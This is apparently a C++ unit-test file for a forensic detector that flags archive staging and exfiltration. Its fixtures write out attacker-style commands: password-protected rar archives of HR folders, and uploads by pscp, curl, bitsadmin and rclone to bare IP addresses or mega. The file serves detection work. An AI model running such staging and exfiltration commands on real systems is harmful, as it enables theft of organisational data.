// How commands are read and joined to acts of packing: judged through the modules winrar and
// staging.
#include <gmock/gmock.h>

#include "tests/modules/packing_cases.h"

namespace hozen {
namespace modules {
extern const ModuleSpec winrar;
extern const ModuleSpec staging;
}  // namespace modules
namespace {

using fake::at;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

constexpr std::uint64_t kMiB = std::uint64_t{1} << 20U;

ModuleRun judge_winrar(std::vector<Fact> facts) {
  return judge_facts(modules::winrar, std::move(facts));
}
Fact typed(FileTime time, const std::string& line) {
  return hand_made(FactKind::script, time, "", "script-" + line,
                   {{"ScriptBlockText", line}, {"source", "powershell_history"}, {"user", "eve"}});
}

// ---- routines

std::vector<Fact> five_days(const std::string& destination) {
  std::vector<Fact> facts;
  for (int day = 0; day < 5; ++day) {
    facts.push_back(process_fact(at(day * kDaySeconds), "C:\\T\\rar.exe",
                                 "rar a -r -hpQwe -v500m D:\\data\\bk.rar D:\\design"));
    facts.push_back(
        process_fact(at(day * kDaySeconds + 900), "C:\\T\\pscp.exe",
                     "pscp -pw x D:\\data\\bk.part1.rar root@" + destination + ":/tmp"));
  }
  return facts;
}

TEST(PackingActs, WhatGoesToABareAddressEveryDayIsNoBackup) {
  const auto out = judge_winrar(five_days("203.0.113.9"));
  ASSERT_THAT(out.context->findings, SizeIs(1)) << fake::summary_of(out.context->findings);
  EXPECT_GE(severity_of(out.context->findings[0]), Severity::high);
  EXPECT_THAT(story_of(out.context->findings[0]), HasSubstr("without a name"));
}

TEST(PackingInnocent, WhatGoesToAStoreEveryDayIsABackup) {
  const auto inside = judge_winrar(five_days("backup.corp.example"));
  EXPECT_LE(highest(inside), Severity::low) << fake::summary_of(inside.context->findings);
}

// ---- how lines are read

TEST(PackingInnocent, WhereOutputGoesIsNotPacked) {
  for (const std::string line :
       {"cmd /c rar a -hpBk1 D:\\bk\\data.rar D:\\data > \\\\nas01\\log\\bk.txt",
        "cmd /c 7z a -pBk1 D:\\bk\\data.7z D:\\data > C:\\Windows\\bk.log 2>&1",
        "cmd /c 7z a -v1g D:\\daily.7z C:\\app >> C:\\Windows\\System32\\LogFiles\\bk.log"}) {
    const auto run = judge_winrar({process_fact(at(0), "C:\\Windows\\System32\\cmd.exe", line)});
    for (const Finding& finding : run.context->findings)
      EXPECT_THAT(all_of(finding), Not(HasSubstr("files of another host"))) << line;
    if (line.find("-hp") == std::string::npos) {
      EXPECT_LE(highest(run), Severity::low) << line;
    }
  }
}

TEST(PackingActs, TheShareThroughWhichOutputIsReadIsNoOtherHost) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\Windows\\System32\\cmd.exe",
                    "cmd.exe /Q /c C:\\PerfLogs\\rar.exe a -hpabc C:\\PerfLogs\\o.rar C:\\HR 1> "
                    "\\\\127.0.0.1\\ADMIN$\\__1655526400.1 2>&1")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  const std::string story = story_of(run.context->findings[0]);
  EXPECT_THAT(story, HasSubstr("to pack C:\\HR into C:\\PerfLogs\\o.rar"));
  EXPECT_THAT(story, Not(HasSubstr("another host")));
}

TEST(PackingActs, TheFolderIsTheOneThatTheLineChangedTo) {
  const auto run =
      judge_winrar({process_fact(at(0), "C:\\Windows\\System32\\cmd.exe",
                                 "cmd /c \"cd /d C:\\PerfLogs & rar a -hpabc o.rar D:\\data\"",
                                 {{"CurrentDirectory", "C:\\"}})});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_EQ(run.context->findings[0].subject, "C:\\PerfLogs\\o.rar");
  EXPECT_THAT(run.context->findings[0].title, HasSubstr("in PerfLogs"));
  const auto share = judge_winrar(
      {typed(at(0), "pushd \\\\srv\\c$\\HR && C:\\T\\rar.exe a -hpx C:\\PerfLogs\\1.rar *.doc")});
  ASSERT_THAT(share.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(share.context->findings[0]), HasSubstr("\\\\srv\\c$\\HR\\*.doc"));
}

TEST(PackingActs, AnArchiverIsKnownHoweverItIsStarted) {
  for (const std::string line :
       {"Start-Process C:\\PerfLogs\\rar.exe -ArgumentList \"a -hpabc C:\\PerfLogs\\o.rar C:\\d\"",
        "schtasks /create /tn t /tr \"C:\\PerfLogs\\rar.exe a -hpabc C:\\PerfLogs\\o.rar C:\\d\"",
        "for /r C:\\HR %f in (*.pdf) do @C:\\PerfLogs\\a.exe a -hpabc C:\\PerfLogs\\o.rar \"%f\"",
        "forfiles /p C:\\HR /c \"cmd /c C:\\PerfLogs\\rar.exe a -hpabc C:\\PerfLogs\\o.rar @file\"",
        "$d=\"C:\\PerfLogs\\o.rar\"; C:\\T\\rar.exe a -hpabc $d C:\\HR"}) {
    const auto run = judge_winrar({typed(at(0), line)});
    ASSERT_THAT(run.context->findings, SizeIs(1)) << line;
    EXPECT_EQ(run.context->findings[0].subject, "C:\\PerfLogs\\o.rar") << line;
    EXPECT_GE(severity_of(run.context->findings[0]), Severity::high) << line;
  }
}

TEST(PackingActs, PasswordsAreLeftOutHoweverTheProgramIsStarted) {
  for (const std::string line :
       {"Start-Process rar.exe -ArgumentList \"a -hpSecret123 C:\\PerfLogs\\1.rar C:\\HR\"",
        "Start-Process 7z.exe \"a -pSecret123 -mhe C:\\PerfLogs\\1.7z C:\\HR\"",
        "$a = \"a -hpSecret123 C:\\PerfLogs\\1.rar C:\\HR\"; Start-Process rar.exe $a",
        "Start-Process rar.exe -ArgumentList @('a','-hpSecret123','C:\\PerfLogs\\1.rar','C:\\HR')",
        R"(Start-Process rar.exe -ArgumentList "a","-hpSecret123","C:\PerfLogs\1.rar","C:\H")",
        "cmd /c \"echo Secret123| C:\\T\\7z.exe a -p -si C:\\PerfLogs\\1.7z\""}) {
    const auto run = judge_winrar({typed(at(0), line)});
    ASSERT_THAT(run.context->findings, SizeIs(1)) << line;
    EXPECT_THAT(all_of(run.context->findings[0]), Not(HasSubstr("Secret123"))) << line;
  }
}

TEST(PackingActs, ThousandsOfCommandsAreSoonJoined) {
  constexpr int kCommands = 5'000;
  std::vector<Fact> facts;
  facts.reserve(kCommands);
  for (int i = 0; i < kCommands; ++i)
    facts.push_back(typed({}, "rar a -hpx C:\\PerfLogs\\" + std::to_string(i) + ".rar \\\\s\\c$"));
  const auto run = judge_winrar(std::move(facts));
  EXPECT_GE(highest(run), Severity::high);
}

// ---- programs by their version

Fact start_of(const std::string& image, const std::string& original, const std::string& line) {
  return process_fact(at(0), image, line, {{"OriginalFileName", original}});
}

TEST(PackingActs, ARenamedArchiverIsReadByWhatItsVersionSays) {
  for (const auto& [image, original, line] :
       std::vector<std::tuple<std::string, std::string, std::string>>{
           {"C:\\PerfLogs\\r.exe", "Rar.exe", "r.exe a -r -v100m C:\\PerfLogs\\log.tmp C:\\HR"},
           {"C:\\PerfLogs\\r.exe", "Rar.exe", "r.exe a C:\\PerfLogs\\log.tmp C:\\HR"},
           {"C:\\PerfLogs\\7.exe", "7z.exe", "7.exe a -mhe -pabc C:\\PerfLogs\\log.tmp C:\\HR"}}) {
    const auto run = judge_winrar({start_of(image, original, line)});
    ASSERT_THAT(run.context->findings, SizeIs(1)) << line;
    const Finding& finding = run.context->findings[0];
    EXPECT_EQ(finding.rule, "winrar.staging") << line;
    EXPECT_EQ(finding.subject.substr(0, 19), "C:\\PerfLogs\\log.tmp") << line;
    EXPECT_THAT(story_of(finding), HasSubstr("to pack C:\\HR")) << line;
    EXPECT_THAT(story_of(finding), HasSubstr("by its version resource")) << line;
  }
}

TEST(PackingActs, PasswordAndVolumesTogetherAreAnArchivers) {
  const auto run = judge_winrar({process_fact(
      at(0), "C:\\PerfLogs\\r.exe",
      "r.exe a -k -r -s -m1 -v5m -pQwe C:\\Windows\\Temp\\log.tmp \\\\fs\\share\\*.doc")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_GE(severity_of(run.context->findings[0]), Severity::high);
  EXPECT_THAT(all_of(run.context->findings[0]), Not(HasSubstr("Qwe")));
}

TEST(PackingInnocent, AnInstallerThatUnpacksWithItsOwnSevenZipIsSilent) {
  const auto run = judge_winrar({start_of("C:\\Users\\eve\\AppData\\Local\\Temp\\i\\extract.exe",
                                          "7za.exe", "extract.exe x data.7z -y")});
  EXPECT_THAT(run.context->findings, IsEmpty()) << fake::summary_of(run.context->findings);
}

TEST(PackingInnocent, ProductsPackWithArchiversUnderNamesOfTheirOwn) {
  for (const auto& [image, line] : std::vector<std::pair<std::string, std::string>>{
           {"C:\\Program Files\\McAfee\\mer.exe",
            "mer.exe a -tzip C:\\Windows\\Temp\\MER.tgz C:\\ProgramData\\McAfee"},
           {"C:\\CDT\\zip32.exe", "zip32.exe a -tzip C:\\CDT\\x.zip C:\\CDT\\d"}}) {
    const auto run = judge_winrar({start_of(image, "7za.exe", line)});
    EXPECT_LE(highest(run), Severity::low) << line << fake::summary_of(run.context->findings);
  }
}

// ---- what belongs together

TEST(PackingActs, TheSameNameMonthsLaterIsAnotherAct) {
  const auto run =
      judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
                    process_fact(at(90 * kDaySeconds), "C:\\T\\rar.exe",
                                 "rar a -hpX C:\\PerfLogs\\1.rar \\\\srv9\\c$\\plan"),
                    archive_fact(at(90 * kDaySeconds + 60), "C:\\PerfLogs\\1.rar", 7 * kMiB)});
  ASSERT_THAT(run.context->findings, SizeIs(2)) << fake::summary_of(run.context->findings);
  for (const Finding& finding : run.context->findings) {
    const std::string story = story_of(finding);
    const bool is_late = story.find("srv9") != std::string::npos;
    EXPECT_EQ(story.find("7340032 bytes") != std::string::npos, is_late) << story;
    EXPECT_EQ(story.find("to pack C:\\HR") == std::string::npos, is_late) << story;
  }
}

TEST(PackingActs, EncryptedArchivesOfThePublicFolderAreTold) {
  const auto run =
      judge_winrar({archive_fact(at(0), "C:\\Users\\Public\\Music\\q.rar", 50 * kMiB,
                                 {{"encrypted", "headers"}, {"place", "public_folder"}})});
  ASSERT_THAT(run.context->findings, SizeIs(1)) << "the module archives tells none there";
}

TEST(PackingActs, WhatOnlyLogsTellIsNotSaidToBeThere) {
  std::vector<Fact> facts;
  for (int i = 1; i <= 3; ++i) {
    Fact made =
        hand_made(FactKind::file, at(i), "C:\\PerfLogs\\d.part" + std::to_string(i) + ".rar",
                  "made-" + std::to_string(i), {{"Image", "C:\\T\\rar.exe"}});
    made.event_id = 11;
    facts.push_back(made);
  }
  Fact gone = hand_made(FactKind::file, at(90), "C:\\PerfLogs\\d.part1.rar", "gone", {});
  gone.event_id = 23;
  facts.push_back(gone);
  const auto run = judge_winrar(std::move(facts));
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(run.context->findings[0].title, HasSubstr("files of it were deleted"));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("told by logs, and not looked for"));
  EXPECT_THAT(story_of(run.context->findings[0]), Not(HasSubstr("there are")));
}

TEST(PackingActs, APipeNamesWhatIsPacked) {
  const auto run = judge_winrar(
      {typed(at(0), "gci C:\\HR | Compress-Archive -DestinationPath C:\\PerfLogs\\h.zip")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("to pack C:\\HR"));
}

// ---- innocent

TEST(PackingInnocent, WhatAdministratorsAndOfficesPack) {
  for (const std::string line :
       {"7z a -mhe=on -pX D:\\送付\\見積書.7z D:\\送付\\x.xlsx",
        "7z a -pX D:\\logs\\srv01_evtx.7z C:\\Windows\\System32\\winevt\\Logs",
        "7z a -mx9 -v700m E:\\bk\\sysvol.7z C:\\Windows\\SYSVOL\\domain",
        "7z a -v1g E:\\bk\\public.7z C:\\Users\\Public\\Documents",
        R"(Compress-Archive \\fs01\public\manual C:\Users\Public\Documents\manual.zip)",
        "7z a -tzip C:\\inetpub\\wwwroot\\download\\catalog2024.zip D:\\catalog\\*.pdf"}) {
    const auto run = judge_winrar({process_fact(at(0), "C:\\Program Files\\7-Zip\\7z.exe", line)});
    EXPECT_LE(highest(run), Severity::low) << line << fake::summary_of(run.context->findings);
  }
}

TEST(PackingInnocent, ANightlyJobForAPartnerIsARoutine) {
  std::vector<Fact> facts;
  for (int day = 0; day < 6; ++day) {
    facts.push_back(process_fact(at(day * kDaySeconds), "C:\\Scripts\\7za.exe",
                                 "C:\\Scripts\\7za.exe a -tzip -pX1y2z3 C:\\Temp\\report_2022061" +
                                     std::to_string(day) + ".zip C:\\Reports\\*.csv"));
    facts.push_back(process_fact(at(day * kDaySeconds + 60), "C:\\Scripts\\WinSCP.com",
                                 "WinSCP.com /command \"open sftp://svc@sftp.partner.example\" "
                                 "\"put C:\\Temp\\report_2022061" +
                                     std::to_string(day) + ".zip\""));
  }
  const auto run = judge_winrar(std::move(facts));
  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
  EXPECT_THAT(run.context->findings, Not(SizeIs(testing::Gt(1U))));
}

TEST(PackingInnocent, ASupportToolThatPacksWhatItGatheredIsNotHigh) {
  const auto run =
      judge_winrar({process_fact(at(0), "C:\\Windows\\Temp\\v\\7za.exe",
                                 "C:\\Windows\\Temp\\v\\7za.exe a -pVendor1 "
                                 "C:\\Windows\\Temp\\v\\diag.zip C:\\Windows\\Temp\\v\\logs")});
  EXPECT_LE(highest(run), Severity::medium) << fake::summary_of(run.context->findings);
}

TEST(PackingActs, AClientUnderAnotherNameIsKnownByItsVersion) {
  const auto run = judge_facts(modules::staging,
                               {start_of("C:\\PerfLogs\\svch.exe", "curl.exe",
                                         "svch.exe -T C:\\PerfLogs\\1.rar http://203.0.113.9/")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_GE(severity_of(run.context->findings[0]), Severity::high);
  const auto plain = judge_facts(modules::staging,
                                 {start_of("C:\\T\\curl.exe", "curl.exe", "curl.exe http://a/")});
  EXPECT_THAT(plain.context->findings, IsEmpty());
}

TEST(PackingInnocent, EverydayUploads) {
  const auto run = judge_facts(
      modules::staging,
      {process_fact(at(0), "C:\\Windows\\System32\\curl.exe",
                    "curl -T C:\\Users\\Public\\Documents\\order.csv ftp://edi.example.jp/"),
       process_fact(at(1), "C:\\Windows\\System32\\curl.exe",
                    "curl -F file=@C:\\ProgramData\\crash.dmp https://crash.example"),
       process_fact(at(2), "C:\\T\\rclone.exe",
                    "rclone copy C:\\Users\\Public\\Documents gdrive:share")});
  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
}

TEST(PackingActs, AnArchiveOutOfATemporaryFolderToABareAddressIsMedium) {
  const auto sent = [](const std::string& line) {
    return highest(judge_facts(modules::staging, {process_fact(at(0), "C:\\T\\x.exe", line)}));
  };
  EXPECT_EQ(sent("curl -T C:\\Windows\\Temp\\h.zip http://203.0.113.9/u"), Severity::medium);
  EXPECT_LE(sent("scp build.tar.gz root@198.51.100.7:/root"), Severity::low);
  EXPECT_EQ(sent("xcopy C:\\HR \\\\203.0.113.9\\s\\ /s"), Severity::medium);
}

TEST(PackingActs, AFolderOfStagingIsAPlaceItself) {
  const auto run =
      judge_facts(modules::staging,
                  {process_fact(at(0), "C:\\T\\rclone.exe", "rclone copy C:\\PerfLogs mega:x")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_EQ(severity_of(run.context->findings[0]), Severity::medium);
}

TEST(PackingActs, AJobOfBitsThatSendsWhatWasPackedBelongsToIt) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\PerfLogs\\rar.exe", "rar.exe a -hpx C:\\PerfLogs\\1.rar C:\\HR"),
       process_fact(at(60), "C:\\Windows\\System32\\bitsadmin.exe",
                    "bitsadmin /addfile j http://203.0.113.9/u C:\\PerfLogs\\1.rar")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("203.0.113.9/u"));
  // What is fetched is not packed before.
  const auto fetched = judge_winrar(
      {process_fact(at(60), "C:\\PerfLogs\\rar.exe", "rar.exe a -hpx C:\\PerfLogs\\1.rar C:\\HR"),
       process_fact(at(0), "C:\\Windows\\System32\\bitsadmin.exe",
                    "bitsadmin /addfile j http://203.0.113.9/u C:\\PerfLogs\\1.rar")});
  ASSERT_THAT(fetched.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(fetched.context->findings[0]), Not(HasSubstr("203.0.113.9/u")));
}

TEST(PackingActs, APartThatAnEndRecordStatesIsNotAPartThatIsGone) {
  const auto of = [](const FactTexts& values) {
    const auto run = judge_winrar(
        {process_fact(at(0), "C:\\PerfLogs\\7z.exe", "7z.exe a -px C:\\PerfLogs\\1.zip C:\\HR"),
         archive_fact(at(5), "C:\\PerfLogs\\1.zip", 1000, values)});
    return run.context->findings.size() == 1 ? story_of(run.context->findings[0]) : std::string{};
  };
  const std::string stated = of({{"format", "zip"}, {"volume", "1"}, {"volume_number", "3"}});
  EXPECT_THAT(stated, HasSubstr("Its end record states that it is part 3 of several, from 0; no "
                                "trace of another part was seen."));
  EXPECT_THAT(stated, Not(HasSubstr("missing")));
  EXPECT_THAT(of({{"format", "zip"}}), Not(HasSubstr("states that it is part")));
}

TEST(PackingActs, PackingThatIsHandedToOthersToRun) {
  for (const char* line :
       {"iex \"rar a -hpSecret9 C:\\PerfLogs\\1.rar \\\\srv\\c$\\HR\"",
        "Invoke-Expression 'rar a -hpSecret9 C:\\PerfLogs\\1.rar \\\\srv\\c$\\HR'",
        "runas /user:CORP\\adm \"rar a -hpSecret9 C:\\PerfLogs\\1.rar \\\\srv\\c$\\HR\"",
        "wmic process call create \"rar a -hpSecret9 C:\\PerfLogs\\1.rar \\\\srv\\c$\\HR\""}) {
    const auto run = judge_winrar({typed(at(0), line)});
    ASSERT_THAT(run.context->findings, SizeIs(1)) << line;
    EXPECT_GE(severity_of(run.context->findings[0]), Severity::medium) << line;
    EXPECT_THAT(all_of(run.context->findings[0]), Not(HasSubstr("Secret9"))) << line;
    EXPECT_THAT(all_of(run.context->findings[0]), HasSubstr("1.rar")) << line;
  }
  for (const char* line : {"iex \"rar x C:\\PerfLogs\\1.rar\"", "runas /user:adm \"notepad a.rar\"",
                           "wmic process where name='rar.exe' call terminate"})
    EXPECT_THAT(judge_winrar({typed(at(0), line)}).context->findings, IsEmpty()) << line;
}

}  // namespace
}  // namespace hozen
